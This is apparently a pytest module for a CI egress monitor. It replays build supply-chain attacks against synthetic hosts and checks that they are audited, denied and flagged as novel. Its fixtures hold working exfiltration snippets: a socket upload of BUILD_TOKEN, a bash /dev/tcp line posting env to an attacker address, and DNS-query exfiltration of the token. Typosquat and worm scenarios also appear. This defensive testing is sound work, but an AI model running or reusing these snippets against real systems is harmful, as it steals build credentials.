"""Attacks on builds as they happened, replayed with synthetic hosts.

They are told in audit, denied once enforced, and novel where a baseline knows the builds without them.

Each is a job with honest traffic and a theft in it, which hides its failures, so that the build goes on.
"""

from __future__ import annotations

import shutil
from dataclasses import dataclass
from pathlib import Path
from typing import TYPE_CHECKING, Any

import pytest

from .arrivals import UDP, Arrivals
from .known import baseline, entries_of
from .lab import PORT, V4, V6, Network
from .resolver import lab_with_resolver
from .ruled import MODES, Ruled, bracketed, under
from .test_policy_run import logs
from .tracing import trace

if TYPE_CHECKING:
    from collections.abc import Callable

    from .tracing import Span, Trace

pytestmark = pytest.mark.kernel

BOTH = (V4, V6)
TOKEN = "hunter2-of-the-build"  # noqa: S105 - nobody's
BUILD = "build-4711"
REGISTRY, FORGE = "registry.example", "git.example"
RECORDS = [
    f"{name} {'AAAA' if ':' in address else 'A'} {address}"
    for network in BOTH
    for name, address in (
        (REGISTRY, network.peer),
        (FORGE, network.evil),
        ("telemetry-collect.example", network.evil),
        ("scan.security-vendor.example", network.peer),
        ("scan.securlty-vendor.example", network.evil),
    )
]
LS_REMOTE = f"git ls-remote git://{FORGE}:{PORT}/app"
GET = f"""
import socket, sys
for name in sys.argv[1:]:
    for info in socket.getaddrinfo(name, {PORT}, type=socket.SOCK_STREAM):
        with socket.create_connection(info[4][:2], 10) as registry:
            registry.sendall(b"GET /package HTTP/1.1\\r\\n\\r\\n")
            registry.recv(9)
"""
UPLOAD = f"""
import os, socket, sys
for name in sys.argv[1:]:
    for info in socket.getaddrinfo(name, {PORT}, type=socket.SOCK_STREAM):
        try:
            with socket.create_connection(info[4][:2], 10) as thief:
                thief.sendall(b"POST / HTTP/1.1\\r\\n\\r\\n" + os.environb[b"BUILD_TOKEN"])
                thief.recv(9)
        except OSError:
            pass
"""


def posting_the_environment(network: Network) -> str:
    """In a shell."""
    connection = f"/dev/tcp/{network.evil}/{PORT}"
    return f"(exec 3<>{connection} && env >&3 && head -c 9 <&3 >/dev/null) 2>/dev/null\n"


EXFILTRATE = """
import os, socket, struct, sys
stolen = os.environb[b"BUILD_TOKEN"].hex().encode()
for server in sys.argv[1:]:
    name = b"".join(bytes([len(part)]) + part for part in (stolen, b"t", b"exfil", b"example", b""))
    message = struct.pack("!6H", 7, 0x100, 1, 0, 0, 0) + name + struct.pack("!HH", 16, 1)
    with socket.socket(socket.AF_INET6 if ":" in server else socket.AF_INET, socket.SOCK_DGRAM) as asking:
        try:
            asking.sendto(message, (server, 53))
        except OSError:
            pass
"""
"""Asks the thief's own server for a TXT record whose name is the secret."""


@dataclass(frozen=True)
class Incident:
    """A build and what stole in it."""

    files: dict[str, str]
    """Of its workspace, by name; programs."""
    command: str
    """The build's step."""
    culprit: str
    """How the thief's command line begins."""
    thief: str
    """Which of the files it is; without it the build is honest."""
    chain: tuple[str, ...]
    """Executables from the job's root to the theft."""
    destination: Callable[[Network], str]
    """As the lines tell it."""
    act: str = "connect"
    """How its spans are called."""
    allow: tuple[object, ...] = ()
    """Rules besides those for the registry and the resolver."""
    honest: tuple[str, ...] = (REGISTRY,)
    """What the job reaches as ever."""
    honest_at_evil: int = 0
    """Its connections to the very address that the theft goes to."""


INCIDENTS = {
    "a postinstall script calls a new domain": Incident(
        files={
            "npm": "import os; os.system('node get.js registry.example; cd pkg && sh -c \"node setup.js\"')",
            "get.js": GET,
            "pkg/setup.js": f"import sys; sys.argv.append('telemetry-collect.example')\n{UPLOAD}",
        },
        command="node npm install",
        culprit="node setup.js",
        thief="pkg/setup.js",
        chain=("dash", "node", "dash", "dash", "node"),
        destination=lambda _: f"telemetry-collect.example:{PORT}",
    ),
    "an uploader posts the environment to a bare address": Incident(
        files={"get.py": GET, "uploader": "".join(map(posting_the_environment, BOTH)) + "true\n"},
        command="python3 get.py registry.example; bash uploader",
        culprit="bash uploader",
        thief="uploader",
        chain=("dash", "bash", "bash"),
        destination=lambda network: f"{bracketed(network.evil)}:{PORT}",
    ),
    "a worm uploads to the allowed forge without git": Incident(
        files={"get.js": GET, "bundle.js": f"import sys; sys.argv.append('{FORGE}')\n{UPLOAD}"},
        command=f"node get.js {REGISTRY}; {LS_REMOTE} >/dev/null 2>&1; node bundle.js",
        culprit="node bundle.js",
        thief="bundle.js",
        chain=("dash", "node"),
        destination=lambda _: f"{FORGE}:{PORT}",
        allow=({"host": FORGE, "ports": [PORT], "lineage": ["git"]},),
        honest=(REGISTRY, FORGE),
        honest_at_evil=1,
    ),
    "a dependency asks the thief's server for TXT records": Incident(
        files={"get.js": GET, "index.js": EXFILTRATE},
        command=f"node get.js registry.example; node index.js {V4.evil} {V6.evil}",
        culprit="node index.js",
        thief="index.js",
        chain=("dash", "node"),
        destination=lambda network: f"{bracketed(network.evil)}:53",
        act="send",
    ),
    "an action reports to a look-alike domain": Incident(
        files={
            "get.py": GET,
            "entrypoint.sh": "python3 get.py scan.security-vendor.example\npython3 report.py\n",
            "report.py": f"import sys; sys.argv.append('scan.securlty-vendor.example')\n{UPLOAD}",
        },
        command="python3 get.py registry.example; bash entrypoint.sh",
        culprit="python3 report.py",
        thief="report.py",
        chain=("dash", "bash", "python3.11"),
        destination=lambda _: f"scan.securlty-vendor.example:{PORT}",
        allow=(f"*.security-vendor.example:{PORT}",),
        honest=(REGISTRY, "scan.security-vendor.example"),
    ),
}


def workspace(directory: Path, incident: Incident) -> str:
    """Write the build's files; returns the PATH with its `node`, which is an interpreter of scripts."""
    for name, text in incident.files.items():
        path = directory / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text)
    (directory / "bin").mkdir()
    shutil.copy(Path("/usr/bin/python3").resolve(), directory / "bin" / "node")
    return f"{directory / 'bin'}:/usr/bin:/bin"


def thefts(ruled: Ruled, incident: Incident) -> list[Span]:
    """The acts of the thief, by their chain and address."""
    evil = {network.evil for network in BOTH}
    kind = "tcp" if incident.act == "connect" else "udp"
    return [
        span
        for span in ruled.seen.egress
        if tuple(span["egress.lineage"]) == incident.chain  # type: ignore[arg-type]
        and span["network.peer.address"] in evil
        and span["network.transport"] == kind
    ]


@MODES
@pytest.mark.parametrize("incident", INCIDENTS.values(), ids=INCIDENTS)
def test_an_incident_is_told_with_its_lineage_and_denied_once_enforced(
    tmp_path: Path, incident: Incident, mode: str
) -> None:
    job = tmp_path / "job"
    job.mkdir()
    env = {"PATH": workspace(job, incident), "BUILD_TOKEN": TOKEN, "BUILD_ID": BUILD}
    command = ["sh", "-c", f"cd {job}; {incident.command}; exit 0"]
    allow, options = [f"{REGISTRY}:{PORT}", *incident.allow], ("--job-env", "BUILD_ID")
    with lab_with_resolver(V4.peer, RECORDS, tmp_path) as lab, lab.watch() as watch:
        ruled = under(
            lab, mode, allow, command, tmp_path, *options, more="resolvers: system\n", is_inside=True, env=env
        )
    told = thefts(ruled, incident)
    assert ruled.seen.status == 0
    assert_theft_is_told(ruled, incident, told)
    assert_records_and_lines(ruled, incident, told)
    assert_honest_part_works(ruled, incident)
    assert_arrivals(watch.arrivals, ruled, incident)


@pytest.mark.parametrize("incident", INCIDENTS.values(), ids=INCIDENTS)
def test_an_incident_is_novel_to_a_baseline_of_the_honest_build(tmp_path: Path, incident: Incident) -> None:
    """Without any policy: all that is novel is what the thief does, its lookups included."""
    job = tmp_path / "job"
    job.mkdir()
    env = {"PATH": workspace(job, incident), "BUILD_TOKEN": TOKEN, "BUILD_ID": BUILD}
    command = ["sh", "-c", f"cd {job}; {incident.command}; exit 0"]
    thief = job / incident.thief
    with lab_with_resolver(V4.peer, RECORDS, tmp_path) as lab:

        def run(name: str, *options: str) -> Trace:
            more = ("--job-env", "BUILD_ID", *options)
            return lab.build.call(trace, None, command, tmp_path / name, *more, env=env).result()

        thief.write_text("")
        honest = run("honest")
        known = ("--baseline", baseline(tmp_path / "baseline.yaml", *entries_of(honest.egress)))
        again = run("again", *known)
        thief.write_text(incident.files[incident.thief])
        seen = run("stolen", *known, "--fail-on", "novel")
    assert (honest.status, again.status, seen.status) == (0, 0, 90)
    assert_nothing_is_novel(again, tmp_path / "again")
    novel = [span for span in seen.egress if span["egress.novel"]]
    assert_theft_alone_is_novel(seen, incident, novel)
    assert_novelty_is_told(seen, incident, novel, logs(tmp_path / "stolen"))


def assert_nothing_is_novel(seen: Trace, directory: Path) -> None:
    """In the build as it was learnt."""
    assert {span["egress.novel"] for span in seen.egress} == {False}
    assert {point.attributes["egress.novel"] for point in seen.metrics["cicd.egress.connections"]} == {False}
    assert [record for record in logs(directory) if record["eventName"] == "cicd.egress.novel"] == []
    assert "novel: " not in seen.stderr
    assert "that the baseline doesn't have" not in seen.stderr


def assert_theft_alone_is_novel(seen: Trace, incident: Incident, novel: list[Span]) -> None:
    """Over both IP versions; the rest of the build does what it ever did."""
    assert all(str(span["process.command_line"]).startswith(incident.culprit) for span in novel)
    evil = {network.evil for network in BOTH}
    kind = "tcp" if incident.act == "connect" else "udp"
    stolen = [
        span for span in novel if span["network.peer.address"] in evil and span["network.transport"] == kind
    ]
    assert sorted(span.name for span in stolen) == sorted(
        f"{incident.act} {incident.destination(network)}" for network in BOTH
    )
    thieves = {span["process.pid"] for span in novel}
    honest = [span for span in seen.egress if span["process.pid"] not in thieves]
    assert set(incident.honest) <= {span["server.address"] for span in honest}


def assert_novelty_is_told(
    seen: Trace, incident: Incident, novel: list[Span], records: list[dict[str, Any]]
) -> None:
    """Each destination by a line and a record, in the trace of the job; each attempt by the metric."""
    chain = f"{incident.chain[-1]} ({' → '.join(incident.chain)})"
    wheres = {(span["server.address"], span["server.port"], span["network.transport"]) for span in novel}
    lines = [line for line in seen.stderr.splitlines() if line.startswith("ci-egress: novel: ")]
    assert len(lines) == len(records) == len(wheres)
    assert all(line.startswith(f"ci-egress: novel: {chain} → ") for line in lines)
    assert {f"ci-egress: {record['body']['stringValue']}" for record in records} == {*lines}
    assert {record["eventName"] for record in records} == {"cicd.egress.novel"}
    assert {(record["traceId"], record["spanId"]) for record in records} <= {
        (seen.job.trace_id, span.span_id) for span in novel
    }
    points = seen.metrics["cicd.egress.connections"]
    assert sum(point.value for point in points if point.attributes["egress.novel"]) == len(novel)
    assert {
        (where["server.address"], where["server.port"], where["network.transport"])
        for where in (point.attributes for point in points)
        if where["egress.novel"]
    } == wheres


def assert_arrivals(arrivals: Arrivals, ruled: Ruled, incident: Incident) -> None:
    """At evil: in audit the theft, over both IP versions; once it is denied not a packet of it."""
    evil = {network.evil for network in BOTH}
    connections = sum(n for to, n in arrivals.accepted.items() if to.address in evil)
    datagrams = sum(
        n for packet, n in arrivals.packets.items() if packet.protocol == UDP and packet.to.address in evil
    )
    stolen = 0 if ruled.is_enforced else len(BOTH)
    assert connections + datagrams == stolen + incident.honest_at_evil
    if ruled.is_enforced and not incident.honest_at_evil:
        assert [arrivals.packets_to(address) for address in evil] == [0] * len(evil)


def assert_theft_is_told(ruled: Ruled, incident: Incident, spans: list[Span]) -> None:
    """Two spans, one for each IP version, in the job's trace below those who did it."""
    ruled.assert_against(spans)
    names = {network.evil: incident.destination(network) for network in BOTH}
    assert sorted(f"{span['network.peer.address']} {span.name}" for span in spans) == sorted(
        f"{address} {incident.act} {name}" for address, name in names.items()
    )
    for span in spans:
        above = ruled.seen.above(span)
        assert above[0] is ruled.seen.job
        assert tuple(program.name for program in above[1:]) == incident.chain
        assert span["egress.ancestors"] == [program["process.command_line"] for program in above[1:-1]]
        assert str(span["process.command_line"]).startswith(incident.culprit)
        assert span["cicd.pipeline.run.id"] == BUILD
        question = str(span.attributes.get("dns.question.name", ""))
        assert question.endswith(".t.exfil.example") == (incident.act == "send" and not ruled.is_enforced)


def assert_records_and_lines(ruled: Ruled, incident: Incident, spans: list[Span]) -> None:
    """Nothing but the theft has records, each span of it one; lines only where it was denied."""
    did, event = ("blocked", "denied") if ruled.is_enforced else ("would block", "would_deny")
    chain = " → ".join(incident.chain)
    shown = {f"{incident.chain[-1]} ({chain}) → {incident.destination(n)}, rule default" for n in BOTH}
    assert {(record["eventName"], record["body"]["stringValue"]) for record in ruled.records} == {
        (f"cicd.egress.{event}", f"{did}: {text}") for text in shown
    }
    recorded = [record["spanId"] for record in ruled.records]
    assert [recorded.count(span.span_id) for span in spans] == [1] * len(spans)
    assert {record["traceId"] for record in ruled.records} == {ruled.seen.job.trace_id}
    assert set(ruled.blocked) == (shown if ruled.is_enforced else set())


def assert_honest_part_works(ruled: Ruled, incident: Incident) -> None:
    """In both modes alike: each connection of the build's own was allowed, and came about."""
    allowed = [span for span in ruled.seen.egress if span["egress.verdict"] == "allow"]
    tcp = [span for span in allowed if span["network.transport"] == "tcp"]
    assert {span["server.address"] for span in tcp} == set(incident.honest)
    assert {span["egress.outcome"] for span in tcp} == {"established"}
    assert ruled.seen.account.endswith("+ dropped 0 + pending 0")
